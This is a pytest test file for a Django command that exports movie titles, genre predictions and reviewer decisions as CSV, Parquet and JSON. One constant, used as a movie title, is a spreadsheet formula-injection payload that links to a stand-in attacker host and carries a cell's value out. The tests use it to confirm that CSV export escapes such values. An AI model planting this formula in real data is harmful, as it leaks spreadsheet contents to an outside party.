"""`manage.py export_tables`: titles, predictions and decisions for spreadsheets and notebooks."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from arro3.io import read_parquet
from django.core.management import CommandError, call_command

from catalog.genres import decision_batches, review
from catalog.models import Movie, Suggestion
from catalog.titles.formats import csv_file
from catalog.titles.formats.records import TitleRecord
from catalog.transfer.tables import DECISIONS, PREDICTIONS, TITLES
from tests.factories import GenreFactory, MovieFactory, SuggestionFactory, UserFactory

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def tables(folder: Path, **options: Any) -> str:
    out = io.StringIO()
    call_command("export_tables", folder, stdout=out, **options)
    return out.getvalue()


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def parquet_rows(path: Path) -> list[dict[str, Any]]:
    table = read_parquet(path).read_all()
    names = table.column_names
    columns = [table[name].to_pylist() for name in names]
    return [dict(zip(names, row, strict=True)) for row in zip(*columns, strict=True)]


@pytest.fixture
def movie() -> Movie:
    movie = MovieFactory(title="Amélie", year=2001, franchise="Montmartre", poster=True)
    for name, origin in (("Romance", "manual"), ("Comedy", "imported"), ("Drama", "accepted")):
        movie.movie_genres.create(genre=GenreFactory(name=name), origin=origin)
    MovieFactory(title=HOSTILE, imdb_id=None, tmdb_id=None, local_id="-1", year=None)
    return movie


def test_titles_as_csv(movie: Movie, tmp_path: Path) -> None:
    assert "titles.csv: 2 rows" in tables(tmp_path / "new", format="csv")
    assert sorted(path.name for path in (tmp_path / "new").iterdir()) == [
        "decisions.csv",
        "predictions.csv",
        "titles.csv",
    ]
    first, second = csv_rows(tmp_path / "new/titles.csv")
    assert list(first) == list(TITLES)
    assert first["title"] == "Amélie" and first["year"] == "2001" and first["imdb_id"] == movie.imdb_id
    assert first["genres"] == "Comedy|Drama|Romance" and first["genre_origins"] == "imported|accepted|manual"
    assert first["poster_source"] == "tmdb_page" and first["poster_width"] == "40"
    assert first["page"] == movie.get_absolute_url()
    assert second["title"] == f"'{HOSTILE}" and second["local_id"] == "-1"
    assert second["year"] == second["genres"] == second["poster_source"] == ""


def test_titles_as_parquet_are_unchanged_and_typed(movie: Movie, tmp_path: Path) -> None:
    tables(tmp_path, format="parquet")
    first, second = parquet_rows(tmp_path / "titles.parquet")
    assert list(first) == list(TITLES)
    assert first["id"] == movie.pk and first["year"] == 2001
    assert first["genres"] == ["Comedy", "Drama", "Romance"]
    assert first["genre_origins"] == ["imported", "accepted", "manual"]
    assert second["title"] == HOSTILE and second["local_id"] == "-1"
    assert second["year"] is None and second["genres"] == []


def test_predictions_include_who_decided_and_when(tmp_path: Path) -> None:
    reviewer = UserFactory(username="@anna")
    accepted = SuggestionFactory(score=0.1 + 0.2, sure=True, tick=True, evidence="poster,title")
    pending = SuggestionFactory()
    review.accept([accepted], reviewer)
    accepted.refresh_from_db()
    tables(tmp_path)
    first, second = csv_rows(tmp_path / "predictions.csv")
    assert list(first) == list(PREDICTIONS)
    assert float(first["score"]) == 0.1 + 0.2 and first["sure"] == "true" and first["state"] == "accepted"
    assert (first["tick"], first["evidence"], second["evidence"]) == ("true", "poster|title", "poster")
    assert first["decided_by"] == "'@anna" and first["genre"] == accepted.genre.name
    assert datetime.fromisoformat(first["decided_at"]) == accepted.decided_at.replace(microsecond=0)
    assert second["movie_id"] == str(pending.movie_id) and second["decided_by"] == second["decided_at"] == ""
    first, second = parquet_rows(tmp_path / "predictions.parquet")
    assert first["score"] == 0.1 + 0.2 and first["sure"] is True and first["decided_by"] == "@anna"
    assert first["decided_at"].astimezone(UTC) == accepted.decided_at
    assert first["model_version"] == accepted.model.version
    assert (first["tick"], first["evidence"]) == (True, ["poster", "title"])
    assert second["state"] == Suggestion.State.PENDING and second["decided_at"] is None


def test_a_suggestion_decided_again_after_an_undo_is_one_prediction(tmp_path: Path) -> None:
    suggestion = SuggestionFactory()
    review.accept([suggestion], UserFactory(username="ann"))
    decision_batches.undo(suggestion.decisions.all(), UserFactory(username="bea"))
    tables(tmp_path, format="csv")
    [row] = csv_rows(tmp_path / "predictions.csv")
    assert (row["state"], row["decided_by"]) == ("pending", "")
    review.reject([suggestion], UserFactory(username="cleo"))
    tables(tmp_path, format="csv")
    [row] = csv_rows(tmp_path / "predictions.csv")
    assert (row["state"], row["decided_by"]) == ("rejected", "cleo")


def test_decisions_with_what_was_suggested_and_undone(tmp_path: Path) -> None:
    suggestion = SuggestionFactory(score=0.1 + 0.2, sure=True, evidence="poster,title", genre__name="War")
    movie = suggestion.movie
    Movie.objects.filter(pk=movie.pk).update(title=HOSTILE, year=None)
    review.accept([suggestion], UserFactory(username="@anna"))
    decision_batches.undo(suggestion.decisions.all(), UserFactory(username="bea"))
    review.set_genres(movie, [GenreFactory(name="Drama")], UserFactory(username="cleo"))
    tables(tmp_path, format="both")
    tables(tmp_path, format="json")
    rows = csv_rows(tmp_path / "decisions.csv")
    assert list(rows[0]) == list(DECISIONS)
    accepted, undone, rejected, added = rows
    assert [row["verdict"] for row in rows] == ["accepted", "undone", "rejected", "added"]
    assert (accepted["reviewer"], accepted["title"]) == ("'@anna", f"'{HOSTILE}")
    assert (float(accepted["score"]), accepted["sure"], accepted["tick"]) == (0.1 + 0.2, "true", "false")
    assert (accepted["genre"], accepted["genre_before"], accepted["evidence"]) == (
        "War",
        "none",
        "poster|title",
    )
    assert accepted["reversed_by"] == undone["id"] and undone["reverses"] == accepted["id"]
    assert accepted["suggestion_id"] == rejected["suggestion_id"] == str(suggestion.pk)
    assert (added["genre"], added["suggestion_id"], added["sure"]) == ("Drama", "", "")
    typed = parquet_rows(tmp_path / "decisions.parquet")
    assert (typed[0]["sure"], typed[3]["sure"], typed[3]["evidence"]) == (True, None, [])
    records = json.loads((tmp_path / "decisions.json").read_text())
    assert records[0] | {"decided_at": None} == typed[0] | {"decided_at": None}
    assert records[0]["title"] == HOSTILE and records[0]["decided_at"] == accepted["decided_at"]
    assert records[0]["model_version"] == suggestion.model.version


def test_merged_movies_are_left_out(movie: Movie, tmp_path: Path) -> None:
    Movie.everything.filter(pk=MovieFactory(title="Amelie").pk).update(merged_into=movie)
    tables(tmp_path)
    assert len(csv_rows(tmp_path / "titles.csv")) == len(parquet_rows(tmp_path / "titles.parquet")) == 2


def test_an_empty_catalogue_has_headers(tmp_path: Path) -> None:
    tables(tmp_path)
    tables(tmp_path, format="json")
    assert json.loads((tmp_path / "decisions.json").read_text()) == []
    assert csv_rows(tmp_path / "titles.csv") == parquet_rows(tmp_path / "predictions.parquet") == []
    assert read_parquet(tmp_path / "titles.parquet").schema.names == list(TITLES)


def test_a_titles_file_can_be_imported_again(movie: Movie, tmp_path: Path) -> None:
    tables(tmp_path)
    [first, _] = list(csv_file.read(tmp_path / "titles.csv"))
    assert isinstance(first, TitleRecord)
    assert first.title == "Amélie" and first.imdb_id == movie.imdb_id
    assert set(first.genres) == {"Comedy", "Drama", "Romance"}


def test_a_folder_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(CommandError, match="file"):
        tables(tmp_path / "file")
